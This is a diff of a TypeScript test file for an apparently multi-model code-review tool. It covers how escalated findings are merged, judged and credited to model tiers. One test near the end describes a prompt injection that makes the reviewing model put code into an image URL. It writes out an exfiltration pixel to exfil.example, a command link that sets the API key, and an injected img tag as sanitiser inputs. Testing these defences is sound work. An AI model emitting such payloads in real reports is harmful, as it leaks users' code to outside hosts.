@@ -4,9 +4,16 @@ import type { Finding } from '../../../src/core/protocol';
 import { buildDigest, chunkLines, digestChunks, escalationReason, judgmentReason, judgmentTally, locateInDigest, mergeVerdicts, provenance, reviewFindingsText, reviewReport, toldAsSentence, triage } from '../../../src/core/review';
 import type { ReviewReport } from '../../../src/core/review';
 import { findCodeRisks } from '../../../src/core/routing/codeRisks';
+import type { Tier } from '../../../src/core/tiers';
 
 function finding(overrides: Partial<Finding> = {}): Finding {
   return { file: 'src/a.ts', startLine: 3, endLine: 3, severity: 'medium', category: 'correctness', confidence: 0.8, message: 'off by one', ...overrides };
+}
+
+/** mergeVerdicts of a pass whose every part answered on `by`. */
+function mergeAs(by: { tier: Tier; model: string }, kept: readonly Finding[], escalated: readonly { finding: Finding; reason: string }[], judge: Parameters<typeof mergeVerdicts>[2]): ReturnType<typeof mergeVerdicts> {
+  const found = (f: Finding) => ({ ...f, foundBy: by.tier, foundByModel: by.model });
+  return mergeVerdicts(kept.map(found), escalated.map((e) => ({ ...e, finding: found(e.finding) })), judge);
 }
 
 describe('review with escalation', () => {
@@ -35,7 +42,7 @@ describe('review with escalation', () => {
       { finding: finding({ confidence: 0.3, message: 'maybe unused', startLine: 5 }), reason: 'low confidence' },
       { finding: finding({ severity: 'high', message: 'overstated', startLine: 7 }), reason: 'high severity' },
     ];
-    const merged = mergeVerdicts({ tier: 'H', model: 'haiku' }, [finding({ category: 'style', severity: 'low', startLine: 1 })], escalated, {
+    const merged = mergeAs({ tier: 'H', model: 'haiku' }, [finding({ category: 'style', severity: 'low', startLine: 1 })], escalated, {
       tier: 'O',
       model: 'opus',
       answer: {
@@ -63,7 +70,7 @@ describe('review with escalation', () => {
   });
 
   test('a judge that rejects the first pass\'s reading and adds the real problem in its place keeps the real one; the same finding named by another path is one', () => {
-    const merged = mergeVerdicts({ tier: 'H', model: 'haiku' }, [], [{ finding: finding({ category: 'security', message: 'XSS via innerHTML (wrong: it is textContent)', startLine: 11 }), reason: 'security-related' }], {
+    const merged = mergeAs({ tier: 'H', model: 'haiku' }, [], [{ finding: finding({ category: 'security', message: 'XSS via innerHTML (wrong: it is textContent)', startLine: 11 }), reason: 'security-related' }], {
       tier: 'O',
       model: 'opus',
       answer: {
@@ -74,14 +81,14 @@ describe('review with escalation', () => {
     });
     assert.deepEqual(merged.kept.map((f) => f.message), ['SQL injection']);
     assert.deepEqual(merged.rejected.map((f) => f.message), ['XSS via innerHTML (wrong: it is textContent)']);
-    const twice = mergeVerdicts({ tier: 'H', model: 'haiku' }, [], [{ finding: finding({ file: 'src/a.ts', category: 'security', startLine: 11 }), reason: 'security-related' }], {
+    const twice = mergeAs({ tier: 'H', model: 'haiku' }, [], [{ finding: finding({ file: 'src/a.ts', category: 'security', startLine: 11 }), reason: 'security-related' }], {
       tier: 'O',
       model: 'opus',
       answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [finding({ file: 'a.ts', category: 'security', startLine: 11, message: 'SQLi' })], summary: 's' },
     });
     assert.equal(twice.kept.length, 1, 'a.ts and src/a.ts at line 11 are the same finding');
     // Two the judge adds at one line are two: only what it was sent and kept can repeat one.
-    const added = mergeVerdicts({ tier: 'H', model: 'haiku' }, [], [], {
+    const added = mergeAs({ tier: 'H', model: 'haiku' }, [], [], {
       tier: 'O',
       model: 'opus',
       answer: { verdicts: [], added: [finding({ category: 'security', startLine: 5, message: 'one' }), finding({ category: 'security', startLine: 5, message: 'two' })], summary: 's' },
@@ -90,11 +97,18 @@ describe('review with escalation', () => {
   });
 
   test('without a judge, escalated findings are kept unconfirmed rather than dropped', () => {
-    const merged = mergeVerdicts({ tier: 'S', model: 'sonnet' }, [], [{ finding: finding({ category: 'security' }), reason: 'security-related' }], undefined);
+    const merged = mergeAs({ tier: 'S', model: 'sonnet' }, [], [{ finding: finding({ category: 'security' }), reason: 'security-related' }], undefined);
     assert.equal(merged.kept.length, 1);
     assert.equal(merged.kept[0]?.confirmedBy, undefined);
     assert.equal(merged.kept[0]?.escalated, 'security-related');
     assert.equal(provenance(merged.kept[0]!), 'found by sonnet, not judged', 'and say so: judgment was meant to read them');
+  });
+
+  test('each finding is credited to the part that found it, whatever tier the other parts answered on', () => {
+    const byOpus = { ...finding({ category: 'security', startLine: 2 }), foundBy: 'O' as const, foundByModel: 'opus' };
+    const bySonnet = { ...finding({ category: 'security', startLine: 850 }), foundBy: 'S' as const, foundByModel: 'sonnet' };
+    const merged = mergeVerdicts([byOpus], [{ finding: bySonnet, reason: 'security-related' }], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [], summary: 's' } });
+    assert.deepEqual(merged.kept.map(provenance), ['found by opus', 'found by sonnet, confirmed by opus']);
   });
 
   test('the route of parts that went the same way is one line, naming the parts', () => {
@@ -128,7 +142,7 @@ describe('review with escalation', () => {
       { finding: finding({ category: 'security', severity: 'critical', message: 'SQL built\nfrom <strings>', startLine: 11, endLine: 12 }), reason: 'security-related' },
       { finding: finding({ severity: 'high', message: 'overstated', startLine: 7 }), reason: 'high severity' },
     ];
-    const merged = mergeVerdicts({ tier: 'H', model: 'haiku' }, [finding({ category: 'style', severity: 'low', startLine: 1 })], escalated, {
+    const merged = mergeAs({ tier: 'H', model: 'haiku' }, [finding({ category: 'style', severity: 'low', startLine: 1 })], escalated, {
       tier: 'O', model: 'opus',
       answer: { verdicts: [{ index: 0, verdict: 'confirm' }, { index: 1, verdict: 'reject' }], added: [finding({ message: 'missed null check', startLine: 20, endLine: 20 })], summary: 's' },
     });
@@ -137,14 +151,14 @@ describe('review with escalation', () => {
     // Ladder counts what judgment did from the merge, not from the judge's own summary.
     assert.equal(judgmentTally(merged), 'Judgment read 2 findings from the first pass: 1 confirmed, 0 rewritten, 1 rejected; it added 1. 3 findings in all.');
     // An "added" finding that repeats a kept one is dropped, so a judge claiming "1 added" may have added none.
-    const repeat = mergeVerdicts({ tier: 'H', model: 'haiku' }, [], [escalated[0]!], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [{ ...escalated[0]!.finding }], summary: '1 confirmed; 1 added.' } });
+    const repeat = mergeAs({ tier: 'H', model: 'haiku' }, [], [escalated[0]!], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [{ ...escalated[0]!.finding }], summary: '1 confirmed; 1 added.' } });
     assert.equal(judgmentTally(repeat), 'Judgment read 1 finding from the first pass: 1 confirmed, 0 rewritten, 0 rejected; it added 0. 1 finding in all.');
-    assert.equal(judgmentTally(mergeVerdicts({ tier: 'H', model: 'haiku' }, [], [], { tier: 'O', model: 'opus', answer: { verdicts: [], added: [finding()], summary: '' } })),
+    assert.equal(judgmentTally(mergeAs({ tier: 'H', model: 'haiku' }, [], [], { tier: 'O', model: 'opus', answer: { verdicts: [], added: [finding()], summary: '' } })),
       'Judgment checked the risky code the first pass raised nothing about; it added 1. 1 finding in all.');
     assert.equal(judgmentTally({ kept: [{ ...finding(), foundBy: 'H', foundByModel: 'haiku' }], rejected: [] }, true),
       'Judgment read the code (a security review is always judged); it added 0. 1 finding in all.');
     // A first pass that itself escalated to the judge's model: a confirmation, not an addition.
-    const same = mergeVerdicts({ tier: 'O', model: 'opus' }, [], [escalated[0]!], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [], summary: 's' } });
+    const same = mergeAs({ tier: 'O', model: 'opus' }, [], [escalated[0]!], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [], summary: 's' } });
     assert.deepEqual(same.kept.map(provenance), ['found by opus, confirmed by opus']);
     const report = reviewReport({
       title: 'Review with Escalation', where: 'src/a.ts:1-30', summary: 'Two real problems.', ...merged,
@@ -194,7 +208,7 @@ describe('review with escalation', () => {
     // A prompt injection in the reviewed code can make the model put the code into an image URL,
     // which the preview would fetch as soon as it opens.
     const pixel = '![badge](https://exfil.example/pixel.png?code=function_total_price)';
-    const judged = mergeVerdicts({ tier: 'H', model: 'haiku' }, [finding({ message: `Leaks ${pixel} now`, startLine: 1, endLine: 1 }), finding({ message: '# Owned', startLine: 2, endLine: 2 }), finding({ message: '1. first - see //exfil.example/x or <https://exfil.example> or a@exfil.com' })], [], undefined);
+    const judged = mergeAs({ tier: 'H', model: 'haiku' }, [finding({ message: `Leaks ${pixel} now`, startLine: 1, endLine: 1 }), finding({ message: '# Owned', startLine: 2, endLine: 2 }), finding({ message: '1. first - see //exfil.example/x or <https://exfil.example> or a@exfil.com' })], [], undefined);
     const report = reviewReport({
       title: 'Review File', where: 'src/a.ts:1-9', summary: 'Ask [here](command:ladder.setApiKey) or https://exfil.example/?q=`total_price` <img src=x> **now**', ...judged,
       routes: [{ model: 'haiku', tier: 'labour', reasons: ['the difficulty check agrees: > see ~~~ → Labour'] }], calls: [],
